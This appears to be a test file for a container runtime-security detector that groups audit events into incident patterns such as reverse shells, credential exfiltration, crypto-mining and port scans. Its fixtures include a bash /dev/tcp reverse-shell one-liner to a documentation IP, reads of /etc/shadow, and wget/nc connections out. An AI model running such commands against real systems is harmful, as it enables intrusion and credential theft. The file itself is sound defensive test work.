import assert from 'node:assert/strict';
import { test } from 'node:test';
import { IncidentBuilder, PATTERNS } from '../../src/detect/index.ts';
import type { Audit, Incident, RuntimeEvent, Severity } from '../../src/model/index.ts';

const T0 = Date.parse('2026-01-01T00:00:00Z');
let n = 0;
const audit = (rule: string, seconds: number, fields: { path?: string; message?: string; severity?: Severity; container?: string } = {}): Audit => ({
  id: `a${n++}`, time: new Date(T0 + seconds * 1000).toISOString(), rule, severity: fields.severity ?? 'high',
  message: fields.message ?? `${rule} ${fields.path ?? ''}`, container: { id: fields.container ?? 'c1', name: 'web' },
  event: { kind: 'exec', time: new Date(T0 + seconds * 1000).toISOString(), source: 'tenet', process: { pid: 1, ...(fields.path !== undefined && { path: fields.path }) } },
});
const story = (audits: Audit[]) => {
  let ids = 0;
  const builder = new IncidentBuilder(() => `i${ids++}`);
  const incidents = new Map<string, Incident>();
  for (const a of audits) {
    for (const incident of builder.add(a)) {
      if (incident.mergedInto !== undefined) incidents.delete(incident.id);
      else incidents.set(incident.id, structuredClone(incident));
    }
  }
  return [...incidents.values()];
};

test('an exploit chain is one incident whose pattern grows with the story', () => {
  const incidents = story([
    audit('unexpected-process', 0, { path: '/bin/sh' }),
    audit('unexpected-syscall', 1, { severity: 'medium' }),
    audit('drift', 5, { path: '/tmp/x', severity: 'critical' }),
    audit('unexpected-egress', 6),
  ]);
  assert.equal(incidents.length, 1);
  const [incident] = incidents;
  assert.deepEqual([incident!.pattern, incident!.severity, incident!.count], ['exploit-to-execution', 'critical', 4]);
  assert.deepEqual(incident!.timeline.map((t) => t.rule), ['unexpected-process', 'unexpected-syscall', 'drift', 'unexpected-egress']);
});

test('a flood of identical audits is one incident with a count; lone low audits are no incident', () => {
  const flood = story(Array.from({ length: 500 }, (_, i) => audit('crypto-miner', i, { message: 'ran xmrig', severity: 'critical' })));
  assert.equal(flood.length, 1);
  assert.deepEqual([flood[0]!.pattern, flood[0]!.count, flood[0]!.timeline.length, flood[0]!.timeline[0]!.count], ['crypto-mining', 500, 1, 500]);
  assert.deepEqual(story([audit('unexpected-syscall', 0, { severity: 'medium' }), audit('unexpected-write', 3, { severity: 'medium' })]), []);
});

test('each pattern from the audits that tell it; other containers and later windows are other incidents', () => {
  const patterns = (audits: Audit[]) => story(audits).map((i) => i.pattern);
  assert.deepEqual(patterns([audit('unexpected-process', 0, { path: '/usr/bin/bash' })]), ['shell-in-container']);
  assert.deepEqual(patterns([audit('reverse-shell', 0)]), ['reverse-shell']);
  assert.deepEqual(patterns([audit('sensitive-read', 0), audit('unexpected-egress', 30)]), ['credential-exfiltration']);
  assert.deepEqual(patterns([audit('drift', 0), audit('unexpected-listen', 2)]), ['drift-and-listener']);
  assert.deepEqual(patterns([audit('lateral-movement', 0)]), ['lateral-movement']);
  assert.deepEqual(patterns([audit('sensitive-read', 0), audit('lateral-movement', 10)]), ['credential-exfiltration'], 'credentials read, then a neighbour reached');
  assert.deepEqual(patterns([audit('threat-intel-peer', 0)]), ['command-and-control']);
  assert.deepEqual(patterns([audit('container-escape', 0)]), ['container-escape']);
  assert.deepEqual(patterns([audit('drift', 0)]), ['dropped-program']);
  assert.deepEqual(patterns([audit('drift', 0, { container: 'c1' }), audit('drift', 1, { container: 'c2' })]), ['dropped-program', 'dropped-program']);
  assert.deepEqual(patterns([audit('drift', 0), audit('drift', 3600, { message: 'again' })]), ['dropped-program', 'dropped-program'], 'an hour apart: two stories');
  assert.equal(new Set(PATTERNS.map((p) => p.id)).size, PATTERNS.length);
});

/** An audit of a process (pid, parent) doing something, at a second. */
const did = (rule: string, seconds: number, pid: number, ppid: number | undefined, what: Partial<RuntimeEvent> & { kind: RuntimeEvent['kind'] }, fields: { path?: string; message?: string; severity?: Severity } = {}): Audit => {
  const time = new Date(T0 + seconds * 1000).toISOString();
  const technique = { id: `T-${rule}`, name: rule };
  return {
    id: `a${n++}`, time, rule, severity: fields.severity ?? 'high', technique, model: 'm1',
    message: fields.message ?? `${rule} by ${pid} ${JSON.stringify(what)}`, container: { id: 'c1', name: 'web', image: 'shop/api:1' },
    event: { time, source: 'tenet', ...what, process: { pid, ...(ppid !== undefined && { ppid }), ...(fields.path !== undefined && { path: fields.path }) } },
  };
};
const connect = (address: string, port: number) => ({ kind: 'connect' as const, network: { protocol: 'tcp' as const, remoteAddress: address, remotePort: port } });

test('two attack chains on one container, by two process trees, are two incidents', () => {
  const incidents = story([
    did('unexpected-process', 0, 100, undefined, { kind: 'exec' }, { path: '/bin/sh' }),
    did('unexpected-egress', 1, 101, 100, connect('198.51.100.7', 80), { path: '/usr/bin/wget' }),
    did('drift', 2, 102, 100, { kind: 'exec' }, { path: '/tmp/x', severity: 'critical' }),
    did('unexpected-process', 15, 200, undefined, { kind: 'exec' }, { path: '/bin/sh' }),
    did('sensitive-read', 16, 201, 200, { kind: 'open', file: { path: '/etc/shadow' } }, { path: '/bin/cat' }),
    did('unexpected-egress', 17, 202, 200, connect('203.0.113.9', 8080), { path: '/usr/bin/nc' }),
  ]);
  assert.deepEqual(incidents.map((i) => [i.pattern, i.count]), [['exploit-to-execution', 3], ['credential-exfiltration', 3]]);
  const [first] = incidents;
  assert.deepEqual(first!.techniques?.map((t) => t.id), ['T-unexpected-process', 'T-unexpected-egress', 'T-drift']);
  assert.equal(first!.container.image, 'shop/api:1');
  assert.equal(first!.model, 'm1');
});

test('a process tree links through programs that raised nothing, when the ancestors are known', () => {
  const builder = new IncidentBuilder(() => 'i');
  builder.add(did('unexpected-process', 0, 100, undefined, { kind: 'exec' }, { path: '/bin/sh' }));
  // wget under `timeout` (allowed, no audit) under the shell
  const wget = did('drift', 1, 102, 101, { kind: 'exec' }, { path: '/tmp/wget' });
  assert.equal(builder.add(structuredClone(wget), [101, 100])[0]?.pattern, 'exploit-to-execution');
  const alone = new IncidentBuilder(() => 'j');
  alone.add(did('unexpected-process', 0, 100, undefined, { kind: 'exec' }, { path: '/bin/sh' }));
  assert.equal(alone.add(structuredClone(wget))[0]?.pattern, 'dropped-program', 'without its ancestors: a story of its own');
});

test('the container\'s own program links loosely: credentials read then sent within seconds is one story, a minute later another', () => {
  const server = 7;
  const together = story([
    did('sensitive-read', 0, server, 1, { kind: 'open', file: { path: '/etc/shadow' } }, { path: '/usr/bin/python3' }),
    did('unexpected-egress', 2, server, 1, connect('203.0.113.9', 443), { path: '/usr/bin/python3' }),
  ]);
  assert.deepEqual(together.map((i) => i.pattern), ['credential-exfiltration']);
  const apart = story([
    did('sensitive-read', 0, server, 1, { kind: 'open', file: { path: '/etc/shadow' } }, { path: '/usr/bin/python3' }),
    did('lateral-movement', 60, server, 1, connect('10.0.0.3', 6379), { path: '/usr/bin/python3' }),
  ]);
  assert.deepEqual(apart.map((i) => i.pattern), ['lateral-movement'], 'a read a minute earlier is not this story');
});

test('a file written, then run minutes later by another process, is one story', () => {
  const incidents = story([
    did('unexpected-write', 0, 7, 1, { kind: 'write', file: { path: '/srv/uploads/x' } }, { path: '/usr/bin/python3', severity: 'medium' }),
    did('drift', 150, 300, 1, { kind: 'exec' }, { path: '/srv/uploads/x', severity: 'critical' }),
  ]);
  assert.deepEqual(incidents.map((i) => [i.pattern, i.count]), [['dropped-program', 2]]);
});

test('a port scan is its own pattern, its connections one line with their ports; a shell\'s single connection out is a reverse shell', () => {
  const audits = [did('unexpected-process', 0, 400, undefined, { kind: 'exec' }, { path: '/bin/bash' })];
  for (let port = 1; port <= 109; port++) {
    const at = port * 0.02;
    audits.push(did('reverse-shell', at, 400, undefined, connect('10.0.0.5', port), { path: '/bin/bash', message: `bash connected to 10.0.0.5:${port}`, severity: 'critical' }));
    if (port === 10) audits.push(did('port-scan', at, 400, undefined, connect('10.0.0.5', port), { path: '/bin/bash' }));
  }
  const [scan, ...more] = story(audits);
  assert.equal(more.length, 0);
  assert.equal(scan!.pattern, 'port-scan');
  const line = scan!.timeline.find((t) => t.rule === 'reverse-shell')!;
  assert.deepEqual([line.count, line.distinct, line.values?.length, line.summary], [109, 109, 20, '109 ports of 10.0.0.5 in 2 s']);
  assert.equal(scan!.timeline.length, 3);

  const reverse = story([
    did('unexpected-process', 0, 500, undefined, { kind: 'exec' }, { path: '/bin/bash' }),
    did('reverse-shell', 1, 500, undefined, connect('203.0.113.7', 4444), { path: '/bin/bash' }),
  ]);
  assert.deepEqual(reverse.map((i) => i.pattern), ['reverse-shell']);
});

test('an incident lists the model entries its audits lacked, each once', () => {
  const lacked = (entry: string, s: number) => ({ ...did('unexpected-egress', s, 9, undefined, { kind: 'exec' }), lacked: { dimension: 'egress' as const, entry } });
  const [incident] = story([did('drift', 0, 9, undefined, { kind: 'exec' }), lacked('10.0.0.9:80', 1), lacked('10.0.0.9:80', 2), lacked('10.0.0.8:80', 3)]);
  assert.deepEqual(incident!.lacked, [{ dimension: 'egress', entry: '10.0.0.9:80' }, { dimension: 'egress', entry: '10.0.0.8:80' }]);
});

test('an audit that links two stories makes them one: a shell\'s forked child connects out before its exec names its parent', () => {
  let ids = 0;
  const builder = new IncidentBuilder(() => `i${ids++}`);
  const said: Incident[] = [];
  const add = (a: Audit) => said.push(...builder.add(a).map((i) => structuredClone(i)));
  add(did('reverse-shell', 0, 600, 1, { kind: 'exec' }, { path: '/bin/bash', message: 'bash -i >& /dev/tcp/203.0.113.7/4444', severity: 'critical' }));
  // the forked child, not yet known: its connection is a story of its own, with an incident of its own
  add(did('threat-intel-peer', 0.004, 601, undefined, connect('203.0.113.7', 4444), { path: '/bin/bash', severity: 'critical' }));
  assert.deepEqual(said.map((i) => [i.id, i.pattern]), [['i0', 'reverse-shell'], ['i1', 'command-and-control']]);
  said.length = 0;
  // its exec names the shell as its parent: one story, the later incident part of the earlier one
  add(did('unexpected-process', 0.005, 601, 600, { kind: 'exec' }, { path: '/bin/bash' }));
  assert.deepEqual(said.map((i) => [i.id, i.pattern, i.mergedInto, i.count]), [['i0', 'reverse-shell', undefined, 3], ['i1', 'command-and-control', 'i0', 1]]);
  assert.deepEqual(said[0]!.timeline.map((t) => t.rule), ['reverse-shell', 'threat-intel-peer', 'unexpected-process']);
});

test('a write the model lacks to a folder of programs or settings is the system changed; elsewhere it stays an audit', () => {
  const write = (path: string) => did('unexpected-write', 0, 700, 1, { kind: 'write', file: { path } }, { severity: 'medium' });
  for (const path of ['/usr/local/bin/update-helper', '/usr/bin/ls', '/bin/sh', '/lib/x86_64-linux-gnu/libc.so.6', '/etc/passwd', '/usr/lib64/x.so']) {
    assert.deepEqual(story([write(path)]).map((i) => i.pattern), ['system-files-changed'], path);
  }
  for (const path of ['/srv/data/x', '/usr/share/doc/x', '/tmp/bin/x', '/home/etc/x']) assert.deepEqual(story([write(path)]), [], path);
});

test('a port the model does not have, listening, is a backdoor; with a dropped program, the drift and listener story', () => {
  const listen = did('unexpected-listen', 1, 800, 1, { kind: 'listen', network: { protocol: 'tcp', localPort: 4445 } });
  assert.deepEqual(story([structuredClone(listen)]).map((i) => i.pattern), ['backdoor-listener']);
  assert.deepEqual(story([did('drift', 0, 800, 1, { kind: 'exec' }, { path: '/tmp/x' }), structuredClone(listen)]).map((i) => i.pattern), ['drift-and-listener']);
});
